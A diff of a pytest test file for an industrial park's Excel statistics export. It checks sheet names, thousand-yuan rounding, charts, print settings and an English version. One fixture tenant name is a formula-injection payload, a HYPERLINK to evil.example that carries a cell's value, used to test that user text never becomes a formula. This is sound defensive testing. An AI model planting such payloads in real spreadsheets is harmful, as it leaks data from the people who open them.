@@ -3,18 +3,19 @@
 from decimal import Decimal
 
 import pytest
+from openpyxl.utils import get_column_letter
 
 from exports.statistics import statistics_workbook
 from registry.money import in_unit
 from registry.periods import Period
-from registry.stats import park_stats
-from registry.vocabulary import COUNT_KEYS, INDUSTRY, IP_KIND, MONEY_KEYS
+from registry.stats import FIGURES, park_stats
+from registry.vocabulary import INDUSTRY, IP_KIND
 from tests.conftest import make_tenant
 from tests.exports.conftest import formulas, make_ip, make_report, open_workbook, sheet_xml
 
 HOSTILE_NAME = '=HYPERLINK("http://evil.example/?q="&B5,"详情")'
-SHEETS_ZH = ["概览", "按产业", "知识产权", "企业明细", "目标监测", "说明"]
-SHEETS_EN = ["Summary", "By industry", "IP", "Tenants", "Targets", "Notes"]
+SHEETS_ZH = ["概览", "按产业", "知识产权", "按期间", "企业明细", "目标监测", "说明"]
+SHEETS_EN = ["Summary", "By industry", "IP", "By period", "Tenants", "Targets", "Notes"]
 
 
 @pytest.fixture
@@ -24,7 +25,8 @@ async def park(empty_registry):
         industry="electronic_info", moved_in_on="2015-11-01", platform_level="national",
         hte_certificate_no="GR201643000001", hte_certified_on="2016-10-01",
     )  # fmt: skip
-    halves = await make_tenant(industry="new_energy", moved_in_on="2016-05-01", platform_level="municipal")
+    halves = await make_tenant(industry="new_energy", moved_in_on="2016-05-01", platform_level="municipal",
+                               name_en="Halves Co.")  # fmt: skip
     silent = await make_tenant(name=HOSTILE_NAME, industry="new_energy", moved_in_on="2016-02-01")
     gone = await make_tenant(moved_in_on="2015-12-01", moved_out_on="2016-06-30", status="left")
     later = await make_tenant(moved_in_on="2017-01-10")
@@ -84,14 +86,14 @@ async def test_tenant_rows_are_exactly_the_tenants_on_record_at_year_end(workboo
     assert [row[0] for row in tenant_rows] == [1, 2, 3]
 
 
-async def test_torch_columns_hold_each_tenants_figures_in_thousand_yuan(workbook, park):
+async def test_torch_columns_hold_each_tenants_figures_in_whole_thousand_yuan(workbook, park):
     book, stats, _ = workbook
     header, rows = _table(book["企业明细"])
     column = {label: index for index, label in enumerate(header)}
     by_uscc = {row[1]: row for row in rows[:-1]}
     annual = by_uscc[park["annual"]["uscc"]]
-    assert _num(annual[column["营业收入(千元)"]]) == Decimal("1000.00001")
-    assert _num(annual[column["净利润(千元)"]]) == Decimal("-12.34567")
+    assert annual[column["营业收入(千元)"]] == 1000  # 1,000,000.01 yuan
+    assert annual[column["净利润(千元)"]] == -12  # -12,345.67 yuan
     assert annual[column["从业人员(人)"]] == 50
     assert annual[column["是否高新技术企业"]] == "是" and annual[column["研发平台级别"]] == "国家级"
     assert annual[column["本年知识产权授权数(件)"]] == 2
@@ -99,20 +101,23 @@ async def test_torch_columns_hold_each_tenants_figures_in_thousand_yuan(workbook
     assert annual[column["拥有有效知识产权数(件)"]] == 2
     assert annual[column["软件著作权(件)"]] == 1
     halves = by_uscc[park["halves"]["uscc"]]
-    assert _num(halves[column["营业收入(千元)"]]) == Decimal("550.0005")
+    assert halves[column["营业收入(千元)"]] == 550  # 550,000.50 yuan
     assert halves[column["从业人员(人)"]] == 12
     assert halves[column["本年知识产权申请数(件)"]] == 1
     silent = by_uscc[park["silent"]["uscc"]]
-    assert silent[column["是否报送"]] == "否" and silent[column["营业收入(千元)"]] is None
+    assert silent[column["是否报送"]] == "否"
+    assert silent[column["营业收入(千元)"]] == silent[column["从业人员(人)"]] == "未报"
 
 
-async def test_torch_total_equals_the_api_figures(workbook):
+async def test_torch_total_rounds_the_exact_sum_of_the_api_figures(workbook):
     book, stats, _ = workbook
     api = stats.to_json()
     header, rows = _table(book["企业明细"])
     total = dict(zip(header, rows[-1], strict=True))
     for key, label in (("revenue", "营业收入"), ("net_profit", "净利润"), ("tax_paid", "实际上缴税费")):
-        assert _num(total[f"{label}(千元)"]) == _k(api["figures"][key]["value"])
+        exact = _k(api["figures"][key]["value"])
+        assert total[f"{label}(千元)"] == int(exact.quantize(Decimal(1), rounding="ROUND_HALF_UP"))
+    assert total["营业收入(千元)"] == 1550
     assert total["从业人员(人)"] == api["figures"]["employees"]["value"] == 62
     assert total["拥有有效知识产权数(件)"] == api["ip"]["valid_at_end"] == 2
     assert total["本年知识产权申请数(件)"] == api["ip"]["filed"]
@@ -122,32 +127,35 @@ async def test_summary_figures_equal_the_api(workbook):
     book, stats, _ = workbook
     api = stats.to_json()
     rows = {r[0]: r for r in book["概览"].iter_rows(values_only=True) if r[0]}
-    assert rows["年末在册企业"][2] == api["tenants"]["at_end"] == 3
+    assert rows["期末在册企业"][2] == api["tenants"]["at_end"] == 3
     assert rows["本期入驻"][2] == api["tenants"]["moved_in"]
     assert rows["本期迁出（未毕业）"][2] == api["tenants"]["left"] == 1
     revenue = rows["营业收入"]
-    assert _num(revenue[1]) == _k(api["figures"]["revenue"]["value"]) == Decimal("1550.00051")
-    assert _num(revenue[2]) == _k(api["figures"]["revenue"]["previous"]) == Decimal("800")
-    assert _num(revenue[3]) == Decimal(api["figures"]["revenue"]["growth"])
+    assert revenue[1] == "千元"
+    assert _num(revenue[2]) == _k(api["figures"]["revenue"]["value"]) == Decimal("1550.00051")
+    assert _num(revenue[3]) == _k(api["figures"]["revenue"]["previous"]) == Decimal("800")
+    assert _num(revenue[4]) == Decimal(api["figures"]["revenue"]["growth"])
     assert rows["已报送企业"][2] == api["reported"] == 2
-    assert rows["年末有效知识产权"][2] == api["ip"]["valid_at_end"]
+    assert rows["期末有效知识产权"][2] == api["ip"]["valid_at_end"]
+    assert rows["总收入"][2:4] == ("未报", "未报")  # nobody reported it: never a blank or a zero
 
 
-async def test_half_year_and_quarter_figures_stand_beside_the_annual_ones(workbook):
+async def test_half_year_and_quarter_columns_stand_beside_the_annual_one(workbook):
     book, stats, _ = workbook
-    rows = list(book["概览"].iter_rows(values_only=True))
-    header = next(r for r in rows if r[1] == "2016年(千元)")
-    revenue = next(r for r in rows if r[0] == "营业收入")
-    columns = dict(zip(header, revenue, strict=True))
-    assert _num(columns["2016H1(千元)"]) == in_unit(stats.sub_periods["2016H1"]["revenue"], "千元") == Decimal(300)
-    assert _num(columns["2016Q4(千元)"]) == Decimal("150.0005")
-    assert columns["2016Q1(千元)"] is None
+    header, rows = _table(book["按期间"])
+    assert header[2:] == ["2016", "2016H1", "2016H2", "2016Q1", "2016Q2", "2016Q3", "2016Q4"]
+    by_label = {row[0]: dict(zip(header, row, strict=True)) for row in rows}
+    revenue = by_label["营业收入"]
+    assert _num(revenue["2016H1"]) == in_unit(stats.sub_periods["2016H1"].figures["revenue"], "千元") == Decimal(300)
+    assert _num(revenue["2016Q4"]) == Decimal("150.0005")
+    assert revenue["2016Q1"] == "未报"
+    assert by_label["已报送企业"]["2016Q1"] == 0 and by_label["已报送企业"]["2016Q4"] == 1
 
 
 async def test_who_has_not_reported_is_listed(workbook, park):
     book, _, _ = workbook
     rows = list(book["概览"].iter_rows(values_only=True))
-    start = next(i for i, r in enumerate(rows) if r[0] == "六、未报送企业名单")
+    start = next(i for i, r in enumerate(rows) if r[0] == "五、未报送企业名单")
     assert rows[start + 2][:2] == (park["silent"]["uscc"], HOSTILE_NAME)
 
 
@@ -157,7 +165,8 @@ async def test_industry_and_ip_sheets_equal_the_stats(workbook):
     assert [r[0] for r in rows] == [c.zh for c in INDUSTRY.choices] + ["合计"]
     for row, line in zip(rows, stats.by_industry, strict=False):
         assert row[1] == line.tenants_at_end
-        assert _num(row[3]) == (None if line.figures["revenue"] is None else in_unit(line.figures["revenue"], "千元"))
+        revenue = row[header.index("营业收入(千元)")]
+        assert _num(revenue) == in_unit(line.figures["revenue"], "千元") if line.figures["revenue"] else revenue == "未报"
         assert row[-1] == line.ip_valid
     assert rows[-1][1] == stats.tenants.at_end
     header, rows = _table(book["知识产权"])
@@ -181,7 +190,7 @@ async def test_targets_show_the_measurable_2020_targets(workbook):
 async def test_every_numeric_header_states_its_unit(workbook):
     book, _, _ = workbook
     units = ("(千元)", "(人)", "(件)", "(家)", "(%)", "单位")
-    for title, text_columns in (("按产业", 1), ("知识产权", 1), ("企业明细", 10)):
+    for title, text_columns in (("按产业", 1), ("知识产权", 1), ("企业明细", 13)):
         header, _ = _table(book[title])
         for label in header[text_columns:]:
             assert label.endswith(units), f"{title}: {label}"
@@ -192,37 +201,42 @@ async def test_number_formats_frozen_headers_filters_and_widths(workbook):
     tenants = book["企业明细"]
     header, rows = _table(tenants)
     revenue_column = header.index("营业收入(千元)") + 1
-    assert tenants.cell(5, revenue_column).number_format == "#,##0.00"
+    assert tenants.cell(5, revenue_column).number_format == "#,##0"
     assert tenants.cell(5, header.index("从业人员(人)") + 1).number_format == "#,##0"
     assert tenants.cell(5, 4).is_date
     assert tenants.freeze_panes == "D5"
-    assert tenants.auto_filter.ref == "A4:AA7"
+    assert tenants.auto_filter.ref == f"A4:{get_column_letter(len(header))}7"
     assert tenants.column_dimensions["C"].width >= 14
     for title in ("按产业", "知识产权", "目标监测"):
         assert book[title].freeze_panes == "B5" and book[title].auto_filter.ref.startswith("A4:")
     summary = book["概览"]
-    growth = next(row for row in summary.iter_rows() if row[0].value == "营业收入")[3]
+    growth = next(row for row in summary.iter_rows() if row[0].value == "营业收入")[4]
     assert growth.number_format == "0.0%"
 
 
-async def test_title_block_names_park_year_time_and_source(workbook):
+async def test_title_block_names_park_period_time_and_source_in_plain_words(workbook):
     book, _, _ = workbook
     for sheet in book.worksheets:
         assert sheet["A1"].value == "动力谷自主创新园 2016年度统计"
-    lines = [book["概览"][f"A{r}"].value for r in (2, 3, 4)]
-    assert lines[0].startswith("统计期间：2016-01-01 至 2016-12-31")
-    assert lines[1].startswith("生成时间：")
-    assert "数据来源：园区登记系统" in lines[2] and ("SQLite" in lines[2] or "PostgreSQL" in lines[2])
+        line = sheet["A2"].value
+        assert line.startswith("统计期间：2016-01-01 至 2016-12-31") and "生成时间：" in line
+        assert "数据来源：园区登记系统" in line
+        assert not any(word in line for word in ("SQLite", "PostgreSQL", "/api/", ".sqlite")), line
 
 
-async def test_summary_has_three_native_charts(workbook):
+async def test_summary_charts_sit_beside_its_tables_halves_and_quarters_apart(workbook):
     book, _, content = workbook
     charts = book["概览"]._charts
-    assert len(charts) >= 3
     titles = [c.title.tx.rich.p[0].r[0].t for c in charts]
-    assert titles == ["营业收入按产业（千元）", "年末有效知识产权按类型（件）", "营业收入按期间（千元）"]
+    assert titles == ["营业收入按产业（千元）", "期末有效知识产权按类型（件）", "营业收入按半年（千元）",
+                      "营业收入按季度（千元）"]  # fmt: skip
     refs = [c.series[0].val.numRef.f for c in charts]
-    assert refs[0].startswith("'按产业'!$D$5") and refs[1].startswith("'知识产权'!$B$5")
+    revenue = get_column_letter(4 + FIGURES.index("revenue"))
+    assert refs[0].startswith(f"'按产业'!${revenue}$5") and refs[1].startswith("'知识产权'!$B$5")
+    assert refs[2] == "'按期间'!$D$9:$E$9" and refs[3] == "'按期间'!$F$9:$I$9"
+    # Beside the summary's five columns, in the first screen: columns G to T, rows 2 to 31.
+    anchors = [(c.anchor._from.col, c.anchor._from.row) for c in charts]
+    assert anchors == [(6, 1), (13, 1), (6, 16), (13, 16)]
 
 
 async def test_user_text_is_never_a_formula(workbook):
@@ -235,16 +249,25 @@ async def test_user_text_is_never_a_formula(workbook):
 
 async def test_money_is_written_with_exact_digits(workbook):
     _, _, content = workbook
-    xml = sheet_xml(content, "企业明细")
+    xml = sheet_xml(content, "按产业")
     assert "<v>1000.00001</v>" in xml and "<v>-12.34567</v>" in xml and "<v>1550.00051</v>" in xml
 
 
-async def test_english_workbook_has_english_headers_and_units(park):
+async def test_english_workbook_is_in_english_with_english_tenant_names(park):
     book = open_workbook(await statistics_workbook(2016, "en"))
-    header, _ = _table(book["Tenants"])
-    assert "Revenue (k yuan)" in header or "Revenue(k yuan)" in header
-    assert book["Summary"]["A1"].value.startswith("Power Valley Independent Innovation Park")
+    header, rows = _table(book["Tenants"])
+    assert "Revenue (k yuan)" in header
+    assert book["Summary"]["A1"].value == "Power Valley Independent Innovation Park: statistics for 2016"
     assert [r[0] for r in _table(book["By industry"])[1]][:1] == [INDUSTRY.choices[0].en]
+    names = {row[1]: row[2] for row in rows[:-1]}
+    assert names[park["halves"]["uscc"]] == "Halves Co."  # its name_en
+    assert names[park["annual"]["uscc"]] == park["annual"]["name"]  # no English name: the Chinese one
+    silent = next(row for row in rows if row[1] == park["silent"]["uscc"])
+    assert silent[header.index("Revenue (k yuan)")] == "not reported"
+    cells = [c for sheet in book.worksheets for row in sheet.iter_rows(values_only=True) for c in row]
+    texts = [c for c in cells if isinstance(c, str) and c not in {park[k]["name"] for k in park}]
+    chinese = [t for t in texts if any("\u4e00" <= ch <= "\u9fff" for ch in t) and "动力谷" not in t]
+    assert chinese == []
 
 
 async def test_an_empty_year_still_renders(empty_registry):
@@ -254,20 +277,17 @@ async def test_an_empty_year_still_renders(empty_registry):
     assert book.sheetnames == SHEETS_ZH
 
 
-def test_money_and_count_keys_are_all_shown():
-    assert len(MONEY_KEYS) == 5 and len(COUNT_KEYS) == 3
-
-
-async def test_demo_park_2016_shows_36_yi_yuan_as_3600000_thousand_in_the_torch_total(empty_registry):
-    from registry.demo import load_demo
-
-    await load_demo()
-    book = open_workbook(await statistics_workbook(2016))
-    header, rows = _table(book["企业明细"])
-    total = dict(zip(header, rows[-1], strict=True))
-    assert total["企业名称"] == "合计"
-    assert _num(total["营业收入(千元)"]) == Decimal(3_600_000)
-    assert book["企业明细"].cell(len(rows) + 4, header.index("营业收入(千元)") + 1).number_format == "#,##0.00"
-    summary = {r[0]: r for r in book["概览"].iter_rows(values_only=True) if r[0]}
-    assert _num(summary["营业收入"][1]) == Decimal(3_600_000)
-    assert book["概览"]["A1"].value.startswith("动力谷自主创新园")
+async def test_every_sheet_prints_landscape_a4_one_page_wide_with_header_rows_and_page_numbers(workbook):
+    book, _, _ = workbook
+    for sheet in book.worksheets:
+        setup = sheet.page_setup
+        wide = 3 if sheet.title == "企业明细" else 1
+        assert (setup.orientation, int(setup.paperSize), int(setup.fitToWidth)) == ("landscape", 9, wide), sheet.title
+        assert sheet.sheet_properties.pageSetUpPr.fitToPage, sheet.title
+        assert sheet.print_title_rows, sheet.title
+        assert sheet.oddHeader.center.text == sheet.title
+        assert "2016" in sheet.oddHeader.right.text
+        assert "&P" in sheet.oddFooter.center.text and "&N" in sheet.oddFooter.center.text
+    # The wide Torch sheet repeats its group and header rows and the serial, USCC and name columns.
+    assert book["企业明细"].print_title_rows == "$3:$4"
+    assert book["企业明细"].print_title_cols == "$A:$C"
